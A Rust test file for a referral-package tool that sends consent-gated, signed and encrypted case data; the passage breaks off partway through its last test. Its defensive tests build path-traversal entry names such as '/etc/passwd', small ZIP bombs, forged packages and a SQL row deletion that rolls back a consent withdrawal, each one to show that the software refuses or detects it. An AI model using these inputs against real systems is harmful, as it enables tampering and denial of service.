//! Referral packages end to end in the core: consent decides what goes in, the package is
//! signed and encrypted, the receiving desk checks everything, and answers.

mod common;

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::path::Path;

use chrono::Days;
use common::*;
use silta_core::cases::{self, CaseInput, CaseView};
use silta_core::model::*;
use silta_core::recipients::{self, KeySource, RecipientKind};
use silta_core::referral::data::FormLanguage;
use silta_core::referral::{self, Mode, Request, desk};
use silta_core::vault::Vault;
use silta_core::{Error, consents, disclosures, org};

const DESK: &str = "Assistance System";
const T: &str = "Zxqv";

struct Desk {
    identity: age::x25519::Identity,
}

fn desk_key(dir: &Path, name: &str) -> Desk {
    let key_file = dir.join(format!("{name}.key"));
    desk::keygen(&key_file).unwrap();
    Desk {
        identity: desk::load_identity(&key_file).unwrap(),
    }
}

/// A sender vault with a named organisation, a confirmed recipient and an adult's case with a
/// finished interview.
fn sender() -> (Fixture, Vault, Desk, CaseView) {
    let (f, vault) = new_vault();
    org::set_up(&vault, "Pro-tukipiste").unwrap();
    let desk = desk_key(f.dir.path(), "desk");
    let r = recipients::add(
        &vault,
        DESK,
        RecipientKind::AssistanceSystem,
        None,
        KeySource::AgeRecipient(&desk.identity.to_public().to_string()),
    )
    .unwrap();
    recipients::confirm(&vault, DESK, &r.record.fingerprint.to_lowercase(), today()).unwrap();
    let mut person = full_person(T);
    person.birth = Some(Birth::Date(d(1990, 3, 4)));
    person.age_uncertain = false;
    let view = cases::open_case(
        &vault,
        CaseInput {
            person,
            details: Some(full_details(T)),
        },
        today(),
    )
    .unwrap();
    let mut i = interview(T);
    i.status = InterviewStatus::Final;
    vault.insert(Some(view.case.id), &i).unwrap();
    (f, vault, desk, view)
}

/// A police recipient (the desk's key stands in for theirs), its fingerprint confirmed.
fn confirmed_police(vault: &Vault, desk: &Desk) {
    let police = recipients::add(
        vault,
        "Police",
        RecipientKind::Police,
        None,
        KeySource::AgeRecipient(&desk.identity.to_public().to_string()),
    )
    .unwrap();
    recipients::confirm(
        vault,
        "Police",
        &police.record.fingerprint.to_lowercase(),
        today(),
    )
    .unwrap();
}

/// The receiving desk's own vault.
fn desk_vault(path: &Path) -> Vault {
    Vault::create(
        path,
        "Joutseno",
        &silta_core::vault::Passphrase::new(PASS),
        silta_core::vault::KdfParams::CHEAP_FOR_TESTS,
    )
    .unwrap()
    .0
}

fn request(view: &CaseView, mode: Mode, fields: Option<Vec<FieldGroup>>) -> Request {
    Request {
        case: view.case.id,
        recipient: DESK.into(),
        mode,
        fields,
        names_no_one: false,
        language: None,
        // Most tests here are about what the consents let through, not about this rule, which
        // has tests of its own below.
        missing_reason: (mode == Mode::Referral).then(|| "The account follows by phone.".into()),
        checked_for_others: true,
        notification: None,
    }
}

fn create(vault: &Vault, req: &Request, out: &Path) -> silta_core::Result<()> {
    referral::create(vault, req, out, today(), FormLanguage::En).map(|_| ())
}

/// The files inside a package, decrypted with the age crate directly (not through Silta's reader).
fn unpack(path: &Path, identity: &age::x25519::Identity) -> BTreeMap<String, Vec<u8>> {
    let file = std::fs::File::open(path).unwrap();
    let d = age::Decryptor::new(std::io::BufReader::new(file)).unwrap();
    let mut plain = Vec::new();
    d.decrypt(std::iter::once(identity as &dyn age::Identity))
        .unwrap()
        .read_to_end(&mut plain)
        .unwrap();
    zip_entries(&plain)
}

fn zip_entries(zip_bytes: &[u8]) -> BTreeMap<String, Vec<u8>> {
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(zip_bytes)).unwrap();
    (0..zip.len())
        .map(|i| {
            let mut e = zip.by_index(i).unwrap();
            let mut bytes = Vec::new();
            e.read_to_end(&mut bytes).unwrap();
            (e.name().unwrap().to_string(), bytes)
        })
        .collect()
}

/// Writes `entries` as a ZIP and encrypts it to `to`: a package made by hand.
fn pack(entries: &BTreeMap<String, Vec<u8>>, to: &age::x25519::Recipient, out: &Path) {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, bytes) in entries {
        zip.start_file(name, zip::write::SimpleFileOptions::default())
            .unwrap();
        zip.write_all(bytes).unwrap();
    }
    let plain = zip.finish().unwrap().into_inner();
    std::fs::write(out, age::encrypt(to, &plain).unwrap()).unwrap();
}

fn contains(haystack: &[u8], needle: &str) -> bool {
    haystack
        .windows(needle.len())
        .any(|w| w == needle.as_bytes())
}

#[test]
fn a_referral_carries_exactly_the_consented_groups_and_is_logged() {
    let (f, vault, desk, view) = sender();
    let groups = [
        FieldGroup::Identity,
        FieldGroup::Account,
        FieldGroup::Indicators,
    ];
    consents::add(
        &vault,
        view.case.id,
        &consent_for(Some(DESK), Purpose::Referral, &groups),
        today(),
    )
    .unwrap();
    let out = f.dir.path().join("referral.age");
    let sent = referral::create(
        &vault,
        &request(&view, Mode::Referral, None),
        &out,
        today(),
        FormLanguage::En,
    )
    .unwrap();

    let opened = desk::open(&out, &desk.identity, &[], None).unwrap();
    assert_eq!(opened.data.field_groups, groups);
    let names: Vec<&str> = opened
        .data
        .identity
        .as_ref()
        .unwrap()
        .names
        .iter()
        .map(|n| n.name.as_str())
        .collect();
    assert!(names.contains(&"Zxqv legal"), "{names:?}");
    assert_eq!(
        opened.data.account.as_ref().unwrap()[0].text,
        "Zxqv in her own words"
    );
    assert!(opened.data.contact.is_none() && opened.data.health.is_none());
    assert!(
        !opened.signer.known,
        "the desk has not been given the sender's card"
    );
    assert_eq!(opened.signer.card.name, "Pro-tukipiste");
    // Romanian interviews fall back to the caseworker's language for the form.
    assert_eq!(opened.data.language, FormLanguage::En);

    let log = disclosures::of_case(&vault, view.case.id).unwrap();
    assert_eq!(log.len(), 1);
    let entry = &log[0].record;
    assert_eq!(entry.package, opened.manifest.package);
    assert_eq!(entry.field_groups, groups);
    assert_eq!(entry.consents, opened.manifest.consents);
    assert_eq!(entry.recipient, DESK);
    assert_eq!(sent.record.file_sha256, {
        use sha2::Digest;
        hex::encode(sha2::Sha256::digest(std::fs::read(&out).unwrap()))
    });

    let files = unpack(&out, &desk.identity);
    let keys: Vec<&str> = files.keys().map(String::as_str).collect();
    assert_eq!(
        keys,
        [
            "manifest.json",
            "manifest.sig",
            "referral.html",
            "referral.json"
        ]
    );
    let html = String::from_utf8(files["referral.html"].clone()).unwrap();
    assert!(html.contains("Referral/Application to the Assistance System"));
    assert!(html.contains("Zxqv legal"));
    assert!(!html.contains("<script"));
}

/// GDPR Art. 7(3) through team sync: a consent two laptops wrote differently may be the
/// person's withdrawal on one of them, so it covers nothing until a caseworker settles it.
#[test]
fn a_consent_written_differently_on_two_laptops_covers_nothing_until_settled() {
    let (f, vault, _desk, view) = sender();
    let out = f.dir.path().join("p.age");
    let given = consents::add(
        &vault,
        view.case.id,
        &consent_for(Some(DESK), Purpose::Referral, &[FieldGroup::Identity]),
        today(),
    )
    .unwrap();
    let req = request(&view, Mode::Referral, Some(vec![FieldGroup::Identity]));
    // Another consent of the case, to someone else, in conflict: this referral is not its
    // business.
    let other = consents::add(
        &vault,
        view.case.id,
        &consent_for(Some("Police"), Purpose::Referral, &[FieldGroup::Identity]),
        today(),
    )
    .unwrap();
    let conflict = |record: uuid::Uuid| silta_core::sync::SyncConflict {
        doc: "d".into(),
        rev: "1-r".into(),
        kind: "consent".into(),
        record,
        version: 1,
        device: None,
        sealed: String::new(),
    };
    use silta_core::ids::RecordId;
    vault
        .insert(Some(view.case.id), &conflict(other.id.uuid()))
        .unwrap();
    create(&vault, &req, &out).unwrap();
    std::fs::remove_file(&out).unwrap();

    vault
        .insert(Some(view.case.id), &conflict(given.id.uuid()))
        .unwrap();
    let err = create(&vault, &req, &out).unwrap_err();
    assert!(
        matches!(&err, Error::ConsentUnsettled(to) if to == DESK),
        "{err:?}"
    );
    assert!(!out.exists(), "nothing is written when refused");
}

#[test]
fn without_a_consent_in_force_for_that_recipient_and_group_nothing_is_written() {
    let (f, vault, _desk, view) = sender();
    let out = f.dir.path().join("p.age");
    let req = request(&view, Mode::Referral, None);
    let missing = |vault: &Vault, req: &Request| {
        let err = create(vault, req, &out).unwrap_err();
        assert!(!out.exists(), "nothing is written when refused");
        err
    };
    assert!(matches!(
        missing(&vault, &req),
        Error::ConsentMissing { .. }
    ));

    let case = view.case.id;
    // To another recipient.
    consents::add(
        &vault,
        case,
        &consent_for(Some("Police"), Purpose::Referral, &[FieldGroup::Identity]),
        today(),
    )
    .unwrap();
    assert!(matches!(
        missing(&vault, &req),
        Error::ConsentMissing { .. }
    ));
    // Expired.
    let mut old = consent_for(Some(DESK), Purpose::Referral, &[FieldGroup::Identity]);
    old.date = today() - Days::new(60);
    old.expires = Some(today() - Days::new(1));
    consents::add(&vault, case, &old, today()).unwrap();
    assert!(matches!(
        missing(&vault, &req),
        Error::ConsentMissing { .. }
    ));
    // Withdrawn.
    let c = consents::add(
        &vault,
        case,
        &consent_for(Some(DESK), Purpose::Referral, &[FieldGroup::Identity]),
        today(),
    )
    .unwrap();
    consents::withdraw(&vault, c.id, today(), "asked by phone").unwrap();
    assert!(matches!(
        missing(&vault, &req),
        Error::ConsentMissing { .. }
    ));
    // In force, but a group outside it is asked for; the message names it.
    consents::add(
        &vault,
        case,
        &consent_for(Some(DESK), Purpose::Referral, &[FieldGroup::Identity]),
        today(),
    )
    .unwrap();
    let req = request(
        &view,
        Mode::Referral,
        Some(vec![FieldGroup::Identity, FieldGroup::Health]),
    );
    let err = missing(&vault, &req);
    assert!(err.to_string().contains("health"), "{err}");
    // A police report needs a police-report consent, and a police recipient.
    let err = missing(&vault, &request(&view, Mode::Report, None));
    assert!(err.to_string().contains("police recipient"), "{err}");
}

#[test]
fn a_child_needs_a_guardian_or_representative_on_the_consent_when_sent() {
    let (f, vault, _desk, view) = sender();
    consents::add(
        &vault,
        view.case.id,
        &consent_for(Some(DESK), Purpose::Referral, &[FieldGroup::Identity]),
        today(),
    )
    .unwrap();
    // The birth date is corrected afterwards: the person is 16.
    let mut person = view.person.record.clone();
    person.birth = Some(Birth::Date(today() - Days::new(16 * 366)));
    let details = view.case.record.details.clone();
    cases::edit(
        &vault,
        view.case.id,
        CaseInput {
            person,
            details: Some(details),
        },
        today(),
    )
    .unwrap();
    let err = create(
        &vault,
        &request(&view, Mode::Referral, None),
        &f.dir.path().join("p.age"),
    )
    .unwrap_err();
    assert!(matches!(err, Error::RepresentativeRequired), "{err:?}");
}

#[test]
fn an_unaccompanied_child_is_referred_on_their_own_consent_and_the_form_says_why() {
    let (f, vault, desk, view) = sender();
    confirmed_police(&vault, &desk);
    let mut person = view.person.record.clone();
    person.birth = Some(Birth::Date(today() - Days::new(14 * 366)));
    cases::edit(
        &vault,
        view.case.id,
        CaseInput {
            person,
            details: Some(view.case.record.details.clone()),
        },
        today(),
    )
    .unwrap();
    let own = Consent {
        no_representative: Some(NoRepresentative {
            reason: NoGuardianReason::NoGuardianInFinland,
            representative_requested: true,
        }),
        child_views: Some("I want to be safe and go to school.".into()),
        ..consent_for(
            Some(DESK),
            Purpose::Referral,
            &[FieldGroup::Identity, FieldGroup::Needs],
        )
    };
    consents::add(&vault, view.case.id, &own, today()).unwrap();
    // The police wait for a representative.
    let police = Consent {
        no_representative: own.no_representative,
        child_views: own.child_views.clone(),
        ..consent_for(
            Some("Police"),
            Purpose::PoliceReport,
            &[FieldGroup::Identity, FieldGroup::Needs],
        )
    };
    let err = consents::add(&vault, view.case.id, &police, today()).unwrap_err();
    assert!(matches!(err, Error::ChildWithoutRepresentative), "{err:?}");

    let mut req = request(&view, Mode::Referral, None);
    req.language = Some(FormLanguage::Fi);
    req.checked_for_others = false;
    let p = referral::preview(&vault, &req, today(), FormLanguage::En).unwrap();
    assert!(
        p.text
            .contains("Lapsella ei ole huoltajaa Suomessa. Lapselle on haettu edustajaa"),
        "{}",
        p.text
    );
    assert!(
        p.text
            .contains("Lapsen mielipide ja toivomukset: I want to be safe and go to school."),
        "{}",
        p.text
    );
    assert!(
        !p.text.contains("Älä ota yhteyttä huoltajaan"),
        "{}",
        p.text
    );
    // The app lays out the same form: the same title, sections, rows and warnings as the text.
    let consent = p
        .form
        .sections
        .iter()
        .find(|s| s.title.starts_with("5."))
        .expect("a consent section");
    let part = &consent.parts[0];
    assert!(
        part.rows
            .iter()
            .any(|r| r.label == "Lapsen mielipide ja toivomukset"
                && r.value == "I want to be safe and go to school."),
        "{part:?}"
    );
    assert_eq!(part.warning, None);
    assert!(p.text.starts_with(&p.form.title), "{}", p.text);
    assert!(p.text.contains(&p.form.phone_note));
    for s in &p.form.sections {
        assert!(p.text.contains(&format!("\n{}\n", s.title)), "{}", s.title);
    }
    // The child's views are free text: read before the package goes.
    assert!(p.check_for_others);
    let out = f.dir.path().join("child.age");
    assert!(matches!(
        create(&vault, &req, &out).unwrap_err(),
        Error::OthersNotChecked
    ));
    req.checked_for_others = true;
    create(&vault, &req, &out).unwrap();
    let files = unpack(&out, &desk.identity);
    assert!(contains(
        &files["referral.html"],
        "Lapsella ei ole huoltajaa Suomessa"
    ));

    // A guardian suspected of involvement must not hear of it from the receiver.
    let suspected = Consent {
        no_representative: Some(NoRepresentative {
            reason: NoGuardianReason::GuardianSuspected,
            representative_requested: true,
        }),
        ..own
    };
    consents::add(&vault, view.case.id, &suspected, today()).unwrap();
    let p = referral::preview(&vault, &req, today(), FormLanguage::En).unwrap();
    assert!(
        p.form
            .sections
            .iter()
            .flat_map(|s| &s.parts)
            .any(|part| part
                .warning
                .as_deref()
                .is_some_and(|w| w.starts_with("Älä ota yhteyttä huoltajaan"))),
        "the app shows the warning too: {:?}",
        p.form
    );
    assert!(
        p.text.contains(
            "! Älä ota yhteyttä huoltajaan ennen kuin siitä on sovittu lastensuojelun kanssa"
        ),
        "{}",
        p.text
    );
}

#[test]
fn a_consultation_holds_nothing_that_identifies_the_person() {
    let (f, vault, desk, view) = sender();
    let out = f.dir.path().join("consultation.age");
    create(&vault, &request(&view, Mode::Consultation, None), &out).unwrap();
    let files = unpack(&out, &desk.identity);
    let person = &view.person.record;
    let mut identifying: Vec<String> = vec![
        T.into(),
        "1990-03-04".into(),
        view.case.record.number.to_string(),
        "Kaisa".into(),
    ];
    identifying.extend(person.names.iter().map(|n| n.name.clone()));
    for (name, bytes) in &files {
        for value in &identifying {
            assert!(!contains(bytes, value), "{name} contains {value:?}");
        }
    }
    let opened = desk::open(&out, &desk.identity, &[], None).unwrap();
    assert_eq!(
        opened.data.field_groups,
        [FieldGroup::Indicators, FieldGroup::Needs]
    );
    assert!(opened.data.indicators.is_some());
    // Free text and identifying groups are refused unless confirmed or at all.
    for fields in [vec![FieldGroup::Account], vec![FieldGroup::Identity]] {
        let err = create(
            &vault,
            &request(&view, Mode::Consultation, Some(fields)),
            &f.dir.path().join("x.age"),
        )
        .unwrap_err();
        assert!(matches!(err, Error::InvalidInput(_)), "{err:?}");
    }
}

#[test]
fn an_unconfirmed_recipient_gets_nothing() {
    let (f, vault, desk, view) = sender();
    recipients::add(
        &vault,
        "Other desk",
        RecipientKind::Other,
        None,
        KeySource::AgeRecipient(&desk.identity.to_public().to_string()),
    )
    .unwrap();
    let mut req = request(&view, Mode::Consultation, None);
    req.recipient = "Other desk".into();
    let err = create(&vault, &req, &f.dir.path().join("p.age")).unwrap_err();
    assert!(matches!(err, Error::RecipientUnconfirmed(_)), "{err:?}");
    let err = recipients::confirm(&vault, "Other desk", "0000 0000", today()).unwrap_err();
    assert!(matches!(err, Error::FingerprintMismatch(_)), "{err:?}");
}

#[test]
fn every_flipped_byte_of_the_package_is_detected() {
    let (f, vault, desk, view) = sender();
    let out = f.dir.path().join("p.age");
    create(&vault, &request(&view, Mode::Consultation, None), &out).unwrap();
    let good = std::fs::read(&out).unwrap();
    let bad = f.dir.path().join("bad.age");
    for i in 0..good.len() {
        let mut bytes = good.clone();
        bytes[i] ^= 0x01;
        std::fs::write(&bad, &bytes).unwrap();
        let err = desk::open(&bad, &desk.identity, &[], None).unwrap_err();
        assert!(
            matches!(err, Error::BadPackage(_) | Error::NotForYou),
            "byte {i}: {err:?}"
        );
    }
    for cut in [0, 10, good.len() / 2, good.len() - 1] {
        std::fs::write(&bad, &good[..cut]).unwrap();
        assert!(
            matches!(
                desk::open(&bad, &desk.identity, &[], None),
                Err(Error::BadPackage(_))
            ),
            "cut at {cut}"
        );
    }
}

#[test]
fn a_file_changed_inside_or_a_changed_manifest_is_detected_even_when_re_encrypted() {
    let (f, vault, desk, view) = sender();
    let out = f.dir.path().join("p.age");
    create(&vault, &request(&view, Mode::Consultation, None), &out).unwrap();
    let files = unpack(&out, &desk.identity);
    let to = desk.identity.to_public();
    let forged = f.dir.path().join("forged.age");

    let mut changed = files.clone();
    changed
        .get_mut("referral.json")
        .unwrap()
        .extend_from_slice(b" ");
    pack(&changed, &to, &forged);
    let err = desk::open(&forged, &desk.identity, &[], None).unwrap_err();
    assert!(err.to_string().contains("referral.json"), "{err}");

    let mut changed = files.clone();
    let manifest = String::from_utf8(changed["manifest.json"].clone()).unwrap();
    changed.insert(
        "manifest.json".into(),
        manifest
            .replace("Pro-tukipiste", "Pro-tukipistE")
            .into_bytes(),
    );
    pack(&changed, &to, &forged);
    assert!(matches!(
        desk::open(&forged, &desk.identity, &[], None),
        Err(Error::BadSignature)
    ));

    let mut extra = files.clone();
    extra.insert("attachments/extra".into(), b"smuggled".to_vec());
    pack(&extra, &to, &forged);
    assert!(matches!(
        desk::open(&forged, &desk.identity, &[], None),
        Err(Error::BadPackage(_))
    ));

    // The unchanged contents, re-encrypted by hand, still open: the signature is what counts.
    pack(&files, &to, &forged);
    desk::open(&forged, &desk.identity, &[], None).unwrap();
}

#[test]
fn malformed_files_are_refused_cleanly_and_nothing_is_written() {
    let (f, _vault, desk, _view) = sender();
    let dir = f.dir.path();
    let to = desk.identity.to_public();
    let bad = dir.join("bad.age");
    let out = dir.join("opened");
    let refuse = |what: &str| {
        let err = desk::open(&bad, &desk.identity, &[], Some(&out)).unwrap_err();
        assert!(matches!(err, Error::BadPackage(_)), "{what}: {err:?}");
        assert!(!out.exists(), "{what}: nothing written");
        let leftovers: Vec<_> = std::fs::read_dir(dir)
            .unwrap()
            .filter_map(|e| e.ok())
            .map(|e| e.file_name())
            .filter(|n| n.to_string_lossy().starts_with(".silta-open"))
            .collect();
        assert!(leftovers.is_empty(), "{what}: {leftovers:?}");
    };
    std::fs::write(&bad, b"").unwrap();
    refuse("empty");
    std::fs::write(
        &bad,
        (0..4096u32)
            .map(|i| (i.wrapping_mul(2654435761) >> 13) as u8)
            .collect::<Vec<_>>(),
    )
    .unwrap();
    refuse("random bytes");
    std::fs::write(&bad, age::encrypt(&to, b"not a zip").unwrap()).unwrap();
    refuse("not a zip inside");
    for name in ["../escape", "/etc/passwd", "attachments/../../x", "a/b/c"] {
        let mut entries = BTreeMap::new();
        entries.insert(name.to_string(), b"x".to_vec());
        pack(&entries, &to, &bad);
        refuse(name);
    }
    // A ZIP bomb: a manifest that inflates far beyond what a manifest can be.
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    zip.start_file(
        "manifest.json",
        zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated),
    )
    .unwrap();
    let zeros = vec![0u8; 1 << 20];
    for _ in 0..64 {
        zip.write_all(&zeros).unwrap();
    }
    let plain = zip.finish().unwrap().into_inner();
    assert!(plain.len() < 1 << 20, "the bomb is small: {}", plain.len());
    std::fs::write(&bad, age::encrypt(&to, &plain).unwrap()).unwrap();
    refuse("zip bomb");
    // Addressed to someone else.
    let other = desk_key(dir, "other");
    std::fs::write(
        &bad,
        age::encrypt(&other.identity.to_public(), b"x").unwrap(),
    )
    .unwrap();
    assert!(matches!(
        desk::open(&bad, &desk.identity, &[], None),
        Err(Error::NotForYou)
    ));
}

#[test]
fn open_import_and_acknowledge_round_trip_between_two_vaults() {
    let (f, sender_vault, _desk, view) = sender();
    // The receiving desk is a vault of its own, with its own organisation key.
    let dir = tempfile::tempdir().unwrap();
    let receiver = desk_vault(&dir.path().join("desk.silta"));
    org::set_up(&receiver, "Assistance System").unwrap();
    let receiver_card = org::identity(&receiver).unwrap();
    let desk_identity = org::keys(&receiver).unwrap().age_identity().unwrap();
    // The sender knows the desk by its card; the desk knows the sender by the sender's card.
    recipients::remove(&sender_vault, DESK).unwrap();
    let card_json = serde_json::to_vec(&receiver_card).unwrap();
    recipients::add(
        &sender_vault,
        DESK,
        RecipientKind::AssistanceSystem,
        None,
        KeySource::Card(&card_json),
    )
    .unwrap();
    recipients::confirm(&sender_vault, DESK, &receiver_card.fingerprint, today()).unwrap();
    let sender_card = serde_json::to_vec(&org::identity(&sender_vault).unwrap()).unwrap();
    recipients::add(
        &receiver,
        "Pro-tukipiste",
        RecipientKind::Other,
        None,
        KeySource::Card(&sender_card),
    )
    .unwrap();

    let attachment = sender_vault
        .add_attachment(
            view.case.id,
            Attachment::new("statement.pdf", "application/pdf"),
            &b"%PDF doctor's statement"[..],
            "test",
        )
        .unwrap();
    let groups = vec![
        FieldGroup::Identity,
        FieldGroup::Status,
        FieldGroup::Account,
        FieldGroup::Attachment(attachment.id),
    ];
    silta_core::referrers::set(
        &sender_vault,
        silta_core::referrers::Who::Organisation,
        &silta_core::referrers::ContactCard {
            phone: "020 123 4567".into(),
            email: String::new(),
        },
    )
    .unwrap();
    consents::add(
        &sender_vault,
        view.case.id,
        &consent_for(Some(DESK), Purpose::Referral, &groups),
        today(),
    )
    .unwrap();
    let out = f.dir.path().join("referral.age");
    create(
        &sender_vault,
        &request(&view, Mode::Referral, Some(groups)),
        &out,
    )
    .unwrap();

    let folder = f.dir.path().join("opened");
    let opened = desk::open(
        &out,
        &desk_identity,
        &desk::known_senders(&receiver).unwrap(),
        Some(&folder),
    )
    .unwrap();
    assert!(opened.signer.known);
    assert_eq!(
        std::fs::read(folder.join(format!("attachments/{}", attachment.id))).unwrap(),
        b"%PDF doctor's statement"
    );
    assert!(folder.join("referral.html").exists() && folder.join("manifest.sig").exists());

    let imported = desk::import(
        &receiver,
        &out,
        &desk_identity,
        today(),
        desk::Sender::MustBeKnown,
    )
    .unwrap();
    assert_eq!(imported.person.record.names, view.person.record.names);
    let source = imported.case.record.details.referred_by.as_ref().unwrap();
    assert_eq!(source.organisation, "Pro-tukipiste");
    assert!(source.known_sender);
    // What the form carried for calling back, where the person lives, and why the needs were
    // left out, all arrive with the case.
    assert_eq!(source.callback.as_ref().unwrap().phone, "020 123 4567");
    assert_eq!(
        imported.person.record.municipality.as_deref(),
        Some("Zxqv Vantaa")
    );
    assert_eq!(
        imported
            .notes
            .iter()
            .map(|n| n.record.text.as_str())
            .collect::<Vec<_>>(),
        ["Pro-tukipiste: The account follows by phone."]
    );
    assert_eq!(
        imported.interviews[0].record.narrative,
        "Zxqv in her own words"
    );
    // The answers to the open questions travel with the account and arrive as they were.
    assert_eq!(
        imported.interviews[0].record.open_answers,
        [OpenAnswer {
            question: OpenQuestion::Situation,
            text: "Zxqv cleaned offices at night".into()
        }]
    );
    assert_eq!(
        &*receiver
            .attachment_bytes(imported.attachments[0].id)
            .unwrap(),
        b"%PDF doctor's statement"
    );

    let ack = f.dir.path().join("ack.age");
    desk::acknowledge(
        &receiver,
        &out,
        &desk_identity,
        disclosures::Decision::Accepted,
        &ack,
        today(),
    )
    .unwrap();
    let logged = desk::receive_ack(&sender_vault, &ack, today()).unwrap();
    assert!(logged.asks_for_period());
    assert_eq!(logged.case, view.case.id);
    let a = logged.disclosure.acknowledgement.unwrap();
    assert_eq!(a.decision, disclosures::Decision::Accepted);
    assert!(a.known_signer);
    assert_eq!(a.signer_fingerprint, receiver_card.fingerprint);

    // A refusal starts no period, so it asks for no dates.
    let declined = f.dir.path().join("declined.age");
    desk::acknowledge(
        &receiver,
        &out,
        &desk_identity,
        disclosures::Decision::Declined,
        &declined,
        today(),
    )
    .unwrap();
    assert!(
        !desk::receive_ack(&sender_vault, &declined, today())
            .unwrap()
            .asks_for_period()
    );
}

#[test]
fn the_wizard_offers_what_consent_allows_and_ticks_health_for_the_police_only_by_choice() {
    let (_f, vault, desk, view) = sender();
    recipients::add(
        &vault,
        "Police",
        RecipientKind::Police,
        None,
        KeySource::AgeRecipient(&desk.identity.to_public().to_string()),
    )
    .unwrap();
    let attachment = vault
        .add_attachment(
            view.case.id,
            Attachment::new("photo.jpg", "image/jpeg"),
            &b"jpeg"[..],
            "test",
        )
        .unwrap();
    let groups = [
        FieldGroup::Exploiters,
        FieldGroup::Health,
        FieldGroup::Attachment(attachment.id),
    ];
    consents::add(
        &vault,
        view.case.id,
        &consent_for(Some("Police"), Purpose::PoliceReport, &groups),
        today(),
    )
    .unwrap();
    let offer = referral::offer(&vault, view.case.id, "police", Mode::Report, today()).unwrap();
    assert_eq!(offer.preselected, [FieldGroup::Exploiters]);
    assert_eq!(offer.allowed, groups);
    let err = referral::offer(&vault, view.case.id, DESK, Mode::Referral, today()).unwrap_err();
    assert!(matches!(err, Error::ConsentMissing { .. }), "{err:?}");
    let consultation =
        referral::offer(&vault, view.case.id, DESK, Mode::Consultation, today()).unwrap();
    assert_eq!(
        consultation.preselected,
        [FieldGroup::Indicators, FieldGroup::Needs]
    );
}

#[test]
fn erasing_a_case_names_its_earlier_recipients_and_writes_each_a_signed_notice() {
    let (f, vault, desk, view) = sender();
    consents::add(
        &vault,
        view.case.id,
        &consent_for(Some(DESK), Purpose::Referral, &[FieldGroup::Identity]),
        today(),
    )
    .unwrap();
    create(
        &vault,
        &request(&view, Mode::Referral, None),
        &f.dir.path().join("p.age"),
    )
    .unwrap();
    let informed = silta_core::retention::recipients_of(&vault, view.case.id).unwrap();
    assert_eq!(informed.len(), 1);
    assert_eq!(informed[0].recipient, DESK);
    let notices = f.dir.path().join("notices");
    std::fs::create_dir(&notices).unwrap();
    let written = silta_core::retention::write_notices(
        &vault,
        view.case.id,
        silta_core::retention::NoticeKind::Erasure,
        &notices,
        today(),
    )
    .unwrap();
    assert_eq!(written.len(), 1);
    let files = unpack(Path::new(&written[0]), &desk.identity);
    let manifest: serde_json::Value = serde_json::from_slice(&files["manifest.json"]).unwrap();
    assert_eq!(manifest["kind"], "erasure");
    assert_eq!(manifest["packages"].as_array().unwrap().len(), 1);
    let erased = silta_core::retention::erase(&vault, view.case.id, today()).unwrap();
    assert_eq!(
        erased.informed.len(),
        1,
        "the recipients are named in what erasure returns"
    );
}

/// The attack from docs/threat-model.md: with no key, delete the row of a consent's newest
/// version (its withdrawal), so the version before reads as in force. The next unlock names it,
/// and nothing is sent under it.
#[test]
fn a_withdrawal_rolled_back_by_deleting_its_row_is_found_at_unlock_and_blocks_referrals() {
    let (f, vault, _desk, view) = sender();
    let consent = consents::add(
        &vault,
        view.case.id,
        &consent_for(Some(DESK), Purpose::Referral, &[FieldGroup::Identity]),
        today(),
    )
    .unwrap();
    consents::withdraw(&vault, consent.id, today(), "changed her mind").unwrap();
    vault.lock();

    let conn = rusqlite::Connection::open(&f.path).unwrap();
    let deleted = conn
        .execute(
            "DELETE FROM records WHERE kind = 'consent' AND version = 2",
            [],
        )
        .unwrap();
    assert_eq!(deleted, 1);
    drop(conn);

    let vault = unlock(&f.path);
    let in_force = vault.get::<Consent>(consent.id).unwrap();
    assert!(
        in_force.record.withdrawn.is_none(),
        "the attack works on the rows"
    );
    let why = vault
        .audit_report()
        .broken
        .clone()
        .expect("found at unlock");
    assert!(
        why.contains(&format!("the consent {} of case", consent.id))
            && why.contains("version 2")
            && why.contains("rolled back"),
        "{why}"
    );
    let out = f.dir.path().join("referral.age");
    let err = create(&vault, &request(&view, Mode::Referral, None), &out).unwrap_err();
    assert!(matches!(err, silta_core::Error::AuditBroken(_)), "{err}");
    assert!(!out.exists());
    assert_eq!(
        silta_core::audit::verify(&vault).unwrap().broken,
        Some(why),
        "audit verify names the same"
    );
}

/// A few kilobytes of package must not unpack into gigabytes at the desk: only small files may be
/// compressed (Silta stores attachments as they are), refused before anything is read.
#[test]
fn a_large_compressed_file_in_a_package_is_refused_before_anything_is_read() {
    let (f, _vault, desk, _view) = sender();
    let mut entries = BTreeMap::new();
    entries.insert("manifest.json".to_string(), b"{}".to_vec());
    entries.insert("manifest.sig".to_string(), b"00".to_vec());
    entries.insert("attachments/zeros.bin".to_string(), vec![0u8; 17 << 20]);
    let out = f.dir.path().join("bomb.age");
    pack(&entries, &desk.identity.to_public(), &out);
    assert!(std::fs::metadata(&out).unwrap().len() < 100_000);
    let err = desk::open(&out, &desk.identity, &[], None).unwrap_err();
    assert!(
        matches!(&err, Error::BadPackage(why) if why.contains("a large file compressed")),
        "{err}"
    );
}

/// An attachment is streamed into the vault as it is read; if it then fails its hash, the import
/// is rolled back whole: no case, no chunk of it stays.
#[test]
fn an_attachment_that_fails_its_hash_on_import_leaves_nothing_in_the_vault() {
    let (f, vault, desk, view) = sender();
    let attachment = vault
        .add_attachment(
            view.case.id,
            Attachment::new("statement.pdf", "application/pdf"),
            &b"%PDF doctor's statement"[..],
            "test",
        )
        .unwrap();
    let groups = vec![FieldGroup::Identity, FieldGroup::Attachment(attachment.id)];
    consents::add(
        &vault,
        view.case.id,
        &consent_for(Some(DESK), Purpose::Referral, &groups),
        today(),
    )
    .unwrap();
    let out = f.dir.path().join("referral.age");
    create(&vault, &request(&view, Mode::Referral, Some(groups)), &out).unwrap();
    let mut entries = unpack(&out, &desk.identity);
    let name = entries
        .keys()
        .find(|k| k.starts_with("attachments/"))
        .unwrap()
        .clone();
    entries.insert(name, b"%PDF another statement".to_vec());
    let altered = f.dir.path().join("altered.age");
    pack(&entries, &desk.identity.to_public(), &altered);

    let dir = tempfile::tempdir().unwrap();
    let desk_path = dir.path().join("desk.silta");
    let receiver = desk_vault(&desk_path);
    let err = desk::import(
        &receiver,
        &altered,
        &desk.identity,
        today(),
